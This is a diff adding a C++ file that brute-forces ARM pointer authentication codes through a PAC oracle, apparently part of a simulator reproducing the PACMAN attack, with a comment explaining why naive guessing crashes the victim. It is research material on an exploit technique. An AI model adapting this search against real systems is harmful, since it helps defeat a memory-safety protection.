@@ -1,0 +1,41 @@
+#include "bruteforce.hh"
+
+namespace pacman::attack
+{
+
+PacBruteForcer::PacBruteForcer(PacOracle &oracle, unsigned samples)
+    : oracle_(oracle), samples_(samples)
+{
+}
+
+BruteForceStats
+PacBruteForcer::search(uint16_t first, uint16_t last)
+{
+    BruteForceStats stats;
+    auto &core = oracle_.process().machine().core();
+    const uint64_t queries_before = oracle_.queries();
+    const uint64_t cycles_before = core.cycle();
+
+    for (uint32_t guess = first; guess <= last; ++guess) {
+        ++stats.guessesTested;
+        if (oracle_.testPacSampled(uint16_t(guess), samples_)) {
+            stats.found = uint16_t(guess);
+            break;
+        }
+    }
+
+    stats.oracleQueries = oracle_.queries() - queries_before;
+    stats.cyclesSimulated = core.cycle() - cycles_before;
+    return stats;
+}
+
+const char *
+PacBruteForcer::naiveBruteForceOutcome()
+{
+    return "first wrong guess dereferences an invalid pointer: the "
+           "victim crashes, the kernel re-keys on restart, and every "
+           "learned PAC is invalidated — why PA considered brute "
+           "force impractical before PACMAN";
+}
+
+} // namespace pacman::attack
